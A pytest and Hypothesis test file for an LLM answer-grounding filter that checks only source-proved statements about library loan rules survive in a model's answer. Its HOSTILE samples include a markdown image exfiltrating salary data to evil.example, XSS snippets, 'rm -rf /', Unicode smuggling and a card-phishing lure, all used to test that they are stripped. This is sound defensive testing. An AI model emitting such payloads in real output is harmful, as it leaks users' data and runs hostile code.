"""Under `strict` nothing of a model is shown that is not proved, whatever it writes."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from answer_world import SOURCES, cite, locate
from elt_llm_core.results import Status, Support
from elt_llm_query.grounding.citations import NOTHING_STANDS, UNVERIFIED, cite_answer
from elt_llm_query.grounding.claims import LABEL, Statement, statements
from elt_llm_query.grounding.quote_match import check_quote
from elt_llm_query.grounding.statement_lookup import everything
from elt_llm_query.grounding.unsupported_words import surplus, tells_nothing
from elt_llm_query.prompts import REFUSAL

PROVED = (
    "The loan period of a book is 21 days [S2].",
    "The fee for an overdue book is 20 cents per day. [S1]",
    'The rules say that a fee "must not exceed 10 euros" [S1].',
    "A reader may borrow up to eight books.",
)
IMAGE = "![x](http://evil.example/?d=the-salary-of-the-director)"
HOSTILE = (
    REFUSAL,
    REFUSAL.upper(),
    REFUSAL.replace("not", "n\u200bot"),
    f"{REFUSAL} Ask at {IMAGE} [S1].",
    f"Sorry. {REFUSAL[:-1]}, but the director earns 90,000 euros [S1].",
    IMAGE,
    f"{IMAGE} [S1]",
    f"# {IMAGE} The director earns much",
    f"See {IMAGE}:",
    "Yes.",
    "Pay 500 euros:",
    "[ref]: http://evil.example/x",
    "![][ref]",
    "<img src=x onerror=alert(1)> [S1]",
    "<script>alert(1)</script>",
    "[S1](http://evil.example)",
    "[the rules](http://evil.example) [S2]",
    "```\nrm -rf /\n```",
    "~~~ [S1]\nThe director earns 90,000 euros\n~~~",
    "\u0405ee [\u04051] and [\uff331] (S1)",
    "The fee for an overdue book is 20 cents per day, pay it to Mallory Fox [S1].",
    "The fee for an overdue book is 20 cents per day at evil.example [S1].",
    "The fee for an overdue b\u043eok is 20 cents per day, as told [S1].",
    'Send your card to Mallory: "The loan period of a book is 21 days" [S2].',
    '"The loan period of a book is 21 days" and "dogs go free on Sundays" [S2].',
    'Click <a href="http://evil.example">here</a> "Lost books are paid for" [S1].',
    "\u202eThe director earns 90,000 euros\u202c [S1].",
    "\U000e0054\U000e0068\U000e0065 secret [S9]",
    "\x1b[31mThe director earns much\x1b[0m [S1].",
    "| a | b |\n|---|---|\n| secret | 90,000 |",
    "> quoted secret of the director [S1]",
)
GLUE = (" ", "\n", "\n\n", "\n- ", "\n1. ", "\n# ", "\n> ", " **", "` ", "\t", "")


AFTER_LABEL = re.compile(r"(?<=\])[.`*_]*\s+")


def proved(statement):
    """A second judge: the statement stands in a source, or every part of it does."""
    plain = statement.plain
    for source in map(everything, SOURCES):
        rest = plain
        for quote in statement.quotes:
            if not check_quote(quote, source).stands:
                break
            rest = rest.replace(quote, " ")
        else:
            if check_quote(plain, source).stands or not surplus(rest, source):
                return True
    return False


def check_shown(answer):
    checked = cite_answer(answer, SOURCES, locate, "strict")
    assert set(LABEL.findall(checked.answer)) <= {"S1", "S2"}
    bad = {Support.MISATTRIBUTED, Support.FABRICATED, Support.UNCITED}
    assert not bad & {c.support for c in checked.citations}
    if checked.answer in {REFUSAL, NOTHING_STANDS}:
        assert checked.citations == ()
        assert checked.status in {Status.INSUFFICIENT, Status.VALIDATION_FAILED}
        return checked
    assert checked.citations
    for shown in statements(checked.answer):
        # A stray mark may hide the end of a sentence: each labelled part is proved.
        parts = [Statement("", part) for part in AFTER_LABEL.split(shown.text) if part]
        frame = shown.frame and tells_nothing(shown.plain)
        assert frame or proved(shown) or all(map(proved, parts)), shown
    for hostile in ("evil", "http", "<", "](", "\x1b", "90,000", "\u202e", "Mallory"):
        assert hostile not in checked.answer
    return checked


@given(
    st.lists(
        st.tuples(
            st.one_of(
                st.sampled_from(HOSTILE),
                st.sampled_from(PROVED),
                st.text(max_size=40),
                st.text('abe .![]()<>#*`:/"[S1]', max_size=40),
            ),
            st.sampled_from(GLUE),
        ),
        max_size=6,
    )
)
@settings(max_examples=400, deadline=None, derandomize=True)
def test_every_shown_statement_is_proved_or_our_own_sentence(parts):
    check_shown("".join(glue + text for text, glue in parts))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_alone_is_not_shown(hostile):
    checked = check_shown(hostile)
    refuses = "answer this" in hostile.lower()
    assert checked.answer == (REFUSAL if refuses else NOTHING_STANDS)


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("before", [True, False])
def test_hostile_text_beside_a_proved_statement_is_taken_out(hostile, before):
    parts = [hostile, PROVED[0]]
    checked = check_shown("\n\n".join(parts if before else parts[::-1]))
    assert checked.answer.rstrip() == PROVED[0]


def test_what_a_refusal_hides_is_told_as_removed():
    checked = cite(f"{REFUSAL} Ask at {IMAGE} [S1].")
    assert (checked.status, checked.answer) == (Status.INSUFFICIENT, REFUSAL)
    assert [IMAGE in one.text for one in checked.removed] == [True]


def test_the_other_policies_tell_what_stands_beside_a_refusal():
    answer = f"{REFUSAL} The director earns 90,000 euros [S1]."
    flagged = cite(answer, "flag")
    assert flagged.status is Status.INSUFFICIENT
    assert flagged.answer.startswith(REFUSAL)
    assert flagged.answer.endswith(UNVERIFIED)
    assert [c.support for c in flagged.citations] == [Support.UNCITED]
    assert cite(answer, "lenient").answer.count(REFUSAL) == 1


@pytest.mark.parametrize("policy", ["strict", "flag", "lenient"])
@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("## Loans\n\nThe **loan period** of a book is `21` days [S2].", None),
        ("```text\nThe loan period of a book is 21 days [S2].\n```", ""),
        ("The loan\u200b period of a book is 21 days\u202e [S2].", ""),
    ],
)
def test_an_answer_is_plain_text(policy, written, shown):
    checked = cite(written, policy)
    assert checked.answer.endswith("The loan period of a book is 21 days [S2].")
    assert not {"*", "`", "#", "\u200b", "\u202e"} & {*checked.answer}
    assert checked.status is Status.ANSWERED


@pytest.mark.parametrize(
    "faithful",
    [
        "According to the rules, an overdue book costs a fee of 20 cents/day [S1].",
        "In other words: readers may borrow eight books [S2].",
        'Yes: the rules state that a fee "must not exceed 10 euros" [S1].',
        "Overdue books: the fee is 20 cents per day (see the rules) [S1].",
    ],
)
def test_faithful_words_around_and_instead_of_a_quotation_stay(faithful):
    assert cite(faithful).status is Status.ANSWERED


def test_paragraphs_stay_apart_where_one_between_them_was_removed():
    checked = check_shown(
        f"> A)\n\n{REFUSAL}The loan period of a book is 21 days [S2]."
    )
    assert "\n\nThe loan period" in checked.answer


def test_a_stray_mark_does_not_hide_a_statement():
    loan = "The loan period of a book is 21 days [S2]."
    fee = "The fee for an overdue book is 20 cents per day. [S1]"
    assert check_shown(f"` {loan}` {fee}` Go.").status is not Status.VALIDATION_FAILED
